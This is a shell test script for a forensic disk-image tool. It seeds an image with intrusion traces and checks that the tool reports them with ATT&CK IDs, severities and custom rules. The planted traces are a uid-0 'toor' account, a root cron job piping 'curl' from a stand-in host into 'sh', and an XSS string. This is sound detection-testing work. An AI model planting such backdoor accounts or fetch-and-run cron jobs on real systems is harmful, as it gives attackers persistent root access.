#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# What findings mean, from images to words: texts that attach kept, in list,
# why, attributes and reports; rules of one's own; and that no secret is quoted.

# shellcheck source=tests/mount/lib.sh
. "$(dirname "$0")/lib.sh"
need_fuse
need fusermount3 getfattr python3
# shellcheck source=tests/mount/herd.sh
. tests/mount/herd.sh

same() {	# WHAT WANT GOT
	[ "$2" = "$3" ] || fail "$1: wanted $(printf %q "$2"), got $(printf %q "$3")"
}
has() {	# FILE TEXT…
	local file=$1 p
	shift
	for p in "$@"; do
		grep -qF -- "$p" "$file" || { fail "no \"$p\" in $file"; head -n 30 "$file"; }
	done
}
attr() { getfattr -h --only-values --absolute-names -n "$1" "$2" 2>/dev/null; }

small_herd
printf 'toor:x:0:0::/root:/bin/sh\n' >>"$dir/tree/etc/passwd"
mkdir -p "$dir/tree/etc/cron.d" "$dir/tree/etc/ssl"
printf '* * * * * root curl http://198.51.100.7/a | sh\n' >"$dir/tree/etc/cron.d/x"
printf -- '-----BEGIN PRIVATE KEY-----\nQUJDREVGR0g=\n-----END PRIVATE KEY-----\n' \
	>"$dir/tree/etc/ssl/own.pem"
printf '<script>alert(1)</script>\n' >"$dir/tree/etc/x.conf"
to_image "$dir/tree" "$dir/i-5.raw"
attach --asg web "$dir/i-5.raw"

"$HERDFS" list --expand --asg web --instance i-5 >"$dir/list" || fail list
has "$dir/list" '/etc/passwd  -- accounts T1136.001: 2 lines added: toor uid 0' \
	'/etc/cron.d/x  -- scheduled T1053.003: new file, 1 job: * * * * * as root: curl' \
	'/etc/ssl/own.pem  -- '
grep -q QUJDREVG "$dir/list" && fail "a private key is quoted"
grep -rq QUJDREVGR0g "$HERDFS_STORE" && fail "a private key is in the index"

COLUMNS=80 "$HERDFS" list --asg web --instance i-5 >"$dir/list2"
has "$dir/list2" '                  accounts T1136.001: 2 lines added: toor uid 0'

cat >"$dir/rules.conf" <<'END'
category crown "what we would not lose"
etc/cron.d/x crown T1053.003 100 differ=cron why="ours: {what}"
END
"$HERDFS" mount --rules "$dir/rules.conf" "$mnt" 2>/dev/null || { fail mount; finish; }
i5=$mnt/asg/web/i-5
passwd=$i5/deviant/disk/etc/passwd
same category accounts "$(attr user.herdfs.category "$passwd")"
same technique T1136.001 "$(attr user.herdfs.technique "$passwd")"
same severity 95 "$(attr user.herdfs.severity "$passwd")"
same score "$((($(attr user.herdfs.rank "$passwd") * 95 + 50) / 100))" \
	"$(attr user.herdfs.score "$passwd")"
case "$(attr user.herdfs.why "$passwd")" in
"2 lines added: toor uid 0"*) ;;
*) fail "why: $(attr user.herdfs.why "$passwd")" ;;
esac
same "rules of one's own" crown "$(attr user.herdfs.category "$i5/deviant/disk/etc/cron.d/x")"
same "nothing to say of what is the same" "" \
	"$(attr user.herdfs.category "$i5/all/disk/etc/hostname")$(attr user.herdfs.why "$i5/all/disk/bin")"
has "$i5/report.txt" 'accounts T1136.001: 2 lines added: toor uid 0' \
	"$dir/rules.conf" 'crown T1053.003: ours: new file, 1 job'
python3 - "$i5/report.json" "$dir" <<'END' || fail "report.json"
import hashlib, json, sys
r = json.load(open(sys.argv[1]))
f = {f["path"]: f for f in r["findings"]}
assert f["etc/passwd"]["category"] == "accounts", f["etc/passwd"]
assert f["etc/passwd"]["severity"] == 95 and f["etc/passwd"]["technique"] == "T1136.001"
assert f["etc/cron.d/x"]["rule"] == sys.argv[2] + "/rules.conf:2", f["etc/cron.d/x"]
assert r["rules"]["file"] == sys.argv[2] + "/rules.conf"
assert r["rules"]["sha256"] == hashlib.sha256(open(r["rules"]["file"], "rb").read()).hexdigest()
scores = [f["score"] for f in r["findings"]]
assert scores == sorted(scores, reverse=True), scores
END
has "$mnt/asg/web/README.txt" user.herdfs.why
same "sha256sum -c" "" "$(cd "$i5" && sha256sum -c --quiet MANIFEST.sha256 2>&1)"
"$HERDFS" why --rules "$dir/rules.conf" "$i5/deviant/disk/etc/cron.d/x" >"$dir/out" || fail why
has "$dir/out" '  why       ours: new file, 1 job: ' \
	"  means     crown, ATT&CK T1053.003, severity 100, " "rule $dir/rules.conf:2"

echo 'no rule at all' >"$dir/wrong"
mkdir -p "$dir/other"
"$HERDFS" mount --rules "$dir/wrong" "$dir/other" 2>"$dir/err" &&
	fail "mounted with wrong rules"
has "$dir/err" wrong
finish
